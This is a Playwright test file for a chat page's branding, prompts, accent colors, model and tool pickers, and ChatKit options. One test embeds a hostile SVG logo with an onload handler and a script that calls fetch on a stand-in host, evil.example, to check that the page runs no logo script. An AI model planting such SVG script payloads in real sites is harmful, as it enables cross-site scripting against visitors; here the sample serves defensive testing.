"""Branding of the page by stage options: title, greeting, prompts, accent color, disclaimer; models and tools."""

import json
from collections.abc import Iterator
from typing import Any

import pytest
from playwright.sync_api import Page, Request, expect

from tests.web.chat_page import ChatPage
from tests.web.chatkit_cdn import with_cdn
from tests.web.conftest import GUESTS, served, served_in_process

pytestmark = pytest.mark.xdist_group("browser")

PRIVACY = "https://shop.example.com/privacy"
ACCENT, LIGHTER = "#6b21a8", "#bc9bd8"
PROMPTS = [
    {"label": "Where is my order?", "prompt": "Where is order 17?"},
    {"label": "<b>Returns</b>", "prompt": "How do I return something?"},
]
LABELS = [{"name": "large", "label": "Thorough"}, {"name": "look_it-up", "label": "Search our shop"}]
PAGE = {
    "title": "Shop & help",
    "greeting": "How can we help?",
    "prompts": PROMPTS,
    "accent": ACCENT,
    "disclaimer": "Answers can be wrong.",
    "privacy_url": PRIVACY,
    "labels": LABELS,
}
BRANDED = {**GUESTS, "CHAT_PAGE": json.dumps(PAGE), "CHAT_MODELS": "small,large", "CHAT_TOOL_CHOICES": "pay,look_it-up"}

HOSTILE_LOGO = """<svg xmlns="http://www.w3.org/2000/svg" width="40" height="20" onload="top.was_hacked = true">
<script>top.was_hacked = true; fetch("https://evil.example/script")</script>
<image href="https://evil.example/image.png" width="9" height="9"/><rect width="40" height="20" fill="teal"/></svg>"""


@pytest.fixture(scope="module")
def branded() -> Iterator[str]:
    """A stage with a brand and two models."""
    with served(BRANDED) as url:
        yield url


@pytest.fixture(scope="module")
def branded_chatkit() -> Iterator[str]:
    """The same stage with a domain key, so that the page uses ChatKit."""
    with served({**BRANDED, "CHAT_DOMAIN_KEY": "domain_pk_test"}) as url:
        yield url


@pytest.fixture
def shop(tab: Page, branded: str) -> ChatPage:
    return ChatPage(tab, branded).open()


def test_the_page_shows_the_title_greeting_prompts_and_links_of_the_stage(shop: ChatPage) -> None:
    expect(shop.page).to_have_title("Shop & help")
    expect(shop.page.get_by_role("heading", name="How can we help?")).to_be_visible()
    expect(shop.page.locator(".prompt")).to_have_text([prompt["label"] for prompt in PROMPTS])
    expect(shop.page.locator(".footnote")).to_have_text("Answers can be wrong. Privacy policy")
    expect(shop.page.get_by_role("link", name="Privacy policy")).to_have_attribute("href", PRIVACY)


def test_a_logo_is_shown_and_no_script_in_it_runs(tab: Page) -> None:
    requests: list[str] = []
    tab.on("request", lambda request: requests.append(request.url))
    headers = {"content-type": "image/svg+xml"}
    tab.route("**/logo", lambda route: route.fulfill(status=200, headers=headers, body=HOSTILE_LOGO))
    with served_in_process(GUESTS | {"CHAT_PAGE": json.dumps({"logo": "logo.svg"})}) as url:
        ChatPage(tab, url).open()
        logo = tab.locator("img.logo")
        expect(logo).to_have_js_property("naturalWidth", 40)
        expect(tab.locator("link[rel=icon]")).to_have_attribute("href", "logo")
    assert tab.evaluate("window.was_hacked") is None
    assert not [url for url in requests if "evil" in url]


def test_a_prompt_is_sent_as_a_message_and_keeps_the_draft(shop: ChatPage) -> None:
    shop.text.fill("draft")
    shop.button("Where is my order?").click()
    expect(shop.user_messages).to_have_text("Where is order 17?")
    expect(shop.text).to_have_value("draft")
    expect(shop.page.locator(".prompt").first).to_be_hidden()


@pytest.mark.parametrize(("scheme", "color"), [("light", "rgb(107, 33, 168)"), ("dark", "rgb(188, 155, 216)")])
def test_the_accent_colors_buttons_in_light_and_dark(shop: ChatPage, scheme: str, color: str) -> None:
    shop.page.emulate_media(color_scheme=scheme)  # type: ignore[arg-type] # one of its literals
    shop.text.fill("hello")
    expect(shop.button("Send")).to_have_css("background-color", color)


def test_the_chosen_model_is_sent_with_the_message_and_remembered(shop: ChatPage) -> None:
    picker = shop.page.get_by_label("Model")
    expect(picker).to_have_value("small")
    expect(picker.get_by_role("option")).to_have_text(["small", "Thorough"])
    picker.select_option("large")
    with shop.page.expect_request("**/chatkit") as sent:
        shop.say("hello")
    body: dict[str, Any] = sent.value.post_data_json or {}
    assert body["params"]["input"]["inference_options"] == {"model": "large"}
    shop.page.reload()
    expect(picker).to_have_value("large")


def test_the_chosen_tool_is_sent_with_one_message(shop: ChatPage) -> None:
    picker = shop.page.get_by_label("Tool")
    expect(picker.get_by_role("option")).to_have_text(["Any tool", "Pay", "Search our shop"])
    picker.select_option("Pay")
    sent: list[dict[str, Any]] = []

    def keep(request: Request) -> None:
        if body := request.post_data_json:
            sent.append(body)

    shop.page.on("request", keep)
    for words in ("hello", "again"):
        shop.ask(words)
    options = [body["params"]["input"]["inference_options"] for body in sent if "input" in body.get("params", {})]
    assert options == [{"model": "small", "tool_choice": {"id": "pay"}}, {"model": "small"}]
    expect(picker).to_have_value("")


def test_chatkit_gets_the_same_branding(tab: Page, branded_chatkit: str) -> None:
    chatkit = with_cdn(tab)
    tab.goto(branded_chatkit)
    expect(chatkit.element).to_be_visible()
    options = chatkit.options
    expect(tab).to_have_title("Shop & help")
    assert options["startScreen"] == {"greeting": "How can we help?", "prompts": PROMPTS}
    assert options["theme"] == {"colorScheme": "light", "color": {"accent": {"primary": ACCENT, "level": 1}}}
    link = f"[Privacy policy]({PRIVACY})"
    assert options["disclaimer"] == {"text": f"Answers can be wrong. {link}"}
    models = [{"id": "small", "label": "small", "default": True}, {"id": "large", "label": "Thorough"}]
    assert options["composer"]["models"] == models
    tools = [{"id": "pay", "label": "Pay"}, {"id": "look_it-up", "label": "Search our shop"}]
    assert options["composer"]["tools"] == [{**tool, "icon": "bolt"} for tool in tools]
    tab.emulate_media(color_scheme="dark")
    expect(chatkit.element).to_have_attribute("data-color-scheme", "dark")
    assert chatkit.options["theme"]["color"]["accent"]["primary"] == LIGHTER


def test_effects_from_the_server_reach_the_page_around_chatkit(tab: Page, branded_chatkit: str) -> None:
    chatkit = with_cdn(tab)
    tab.goto(branded_chatkit)
    expect(chatkit.element).to_be_visible()
    names = chatkit.element.evaluate(
        """(chat) => {
          const names = [];
          addEventListener("chat-effect", ({ detail }) => names.push(detail.name));
          const tell = (detail) => chat.dispatchEvent(new CustomEvent("chatkit.effect", { detail }));
          tell({ name: "confetti" });
          tell({ name: "set_theme", data: { theme: "dark" } });
          return names;
        }"""
    )
    assert names == ["confetti", "set_theme"]
    assert chatkit.options["theme"]["colorScheme"] == "dark"
